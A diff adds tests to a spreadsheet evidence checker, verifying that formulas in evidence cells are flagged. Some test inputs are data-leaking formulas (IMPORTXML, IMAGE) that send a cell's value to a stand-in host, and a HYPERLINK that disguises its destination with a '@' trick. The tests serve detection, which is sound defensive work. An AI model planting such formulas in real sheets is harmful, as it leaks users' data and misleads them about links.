@@ -1,5 +1,6 @@
 /** @fileoverview Evidence as sheets arrange it: required or not, columns missing, cells shared, a tab of its own. */
 import { describe, expect, it } from "vitest";
+import { NOT_CALCULATED } from "../../src/cell/error-value";
 import type { CellValue } from "../../src/table/tab";
 import { criteriaOf, forms, only, outcomes, run, sentence, setOf, told, toldBut, wide } from "./sheets";
 
@@ -245,5 +246,55 @@ describe("[E10] evidence on a tab of its own", () => {
       keyedColumns: ["explanation"],
     });
     expect(toldBut(run(without, setOf("1.1")))).toEqual(["no-evidence-columns -"]);
+  });
+});
+
+describe("[E5] [M7] what a formula makes of an evidence cell", () => {
+  const columns = ["name", "appraised 1.1", "evidence 1.1"];
+  const formula = (value: CellValue, formula: string) => {
+    const sheet = wide(columns, [["Xã A", "Đạt", value]], { formulas: { C2: formula } });
+    const assessment = run(sheet, setOf("1.1"));
+    return [outcomes(assessment)["Xã A"], ...toldBut(assessment)];
+  };
+
+  it.each<[string, CellValue, string, string[]]>([
+    [
+      "fetched text",
+      DOC,
+      '=IMPORTXML("https://a.vn/?"&B2;"//a")',
+      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
+    ],
+    [
+      "a picture",
+      "[hình ảnh]",
+      '=IMAGE("https://a.vn/?"&B2)',
+      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
+    ],
+    [
+      "an error",
+      "#REF!",
+      '=IMPORTRANGE("a";"b")',
+      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
+    ],
+    [
+      "words over a link that pretends",
+      "Xem",
+      '=HYPERLINK("https://google.com@a.vn";"Xem")',
+      ["evidence-missing C2 [1.1]", "link-suspicious C2 [1.1]"],
+    ],
+  ])("%s does not count", (_, value, text, found) => {
+    const [outcome, ...rest] = formula(value, text);
+    expect([outcome, rest.sort()]).toEqual(["undetermined", found]);
+  });
+
+  it("a formula never calculated is an error; its link is there to be read all the same", () => {
+    expect(formula(NOT_CALCULATED, "=A1")).toEqual(["undetermined", "cell-error C2 [1.1]"]);
+    expect(formula(NOT_CALCULATED, '=HYPERLINK("https://a.vn/x";"Xem")')).toEqual(["recognised"]);
+    const sheet = wide(columns, [["Xã A", NOT_CALCULATED, DOC]]);
+    expect(sentence(run(sheet, setOf("1.1")), "cell-error")).toContain("Mở tệp bằng Excel, lưu lại");
+  });
+
+  it("any other formula is as good as what it shows", () => {
+    expect(formula(DOC, "='Minh chứng'!C2")).toEqual(["recognised"]);
   });
 });
